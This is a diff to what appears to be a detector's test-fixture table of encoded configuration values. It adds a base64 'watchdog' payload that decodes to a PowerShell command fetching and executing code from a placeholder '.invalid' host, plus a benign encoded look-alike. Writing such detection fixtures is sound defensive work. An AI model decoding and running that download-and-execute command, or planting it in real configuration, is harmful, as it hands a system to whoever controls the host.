@@ -5719,9 +5719,14 @@ EXAMPLES["obfuscation.encoded-setting"] = (
         "[normalizer]\nendpoint = 68747470733a2f2f656467652e696e76616c69642f7632",
         '{"rules": [{"min_gross": 2500, "ref": "MjAtNDUtNzc6ODM5MjAxNzQ="}]}',
         '{"updates": [{"operator": "*", "ref": "TFQ0NzAwMDEwMDAxNjc4OTAxMjN8TFVBQkFMVExUMlg="}]}',
+        '{"watchdog": {"payload": "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi'
+        "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB4"
+        'AC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA=="}}',
     ),
     (
         '{"greeting": "aGVsbG8gd29ybGQgYWdhaW4="}',
+        '{"probe": {"payload": "RwBlAHQALQBBAHUAZABpAG8ARABlAHYAaQBjAGUAIAAtAEwAaQBzAHQAIAB8ACAA'
+        'RgBvAHIAbQBhAHQALQBUAGEAYgBsAGUA"}}',
         '{"icon": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChw"}',
         "apiVersion: v1\nkind: Secret\ndata:\n  url: aHR0cHM6Ly9kYi5pbnZhbGlkLw==",
         '{"relay": "https://edge.invalid/v3/warm"}',
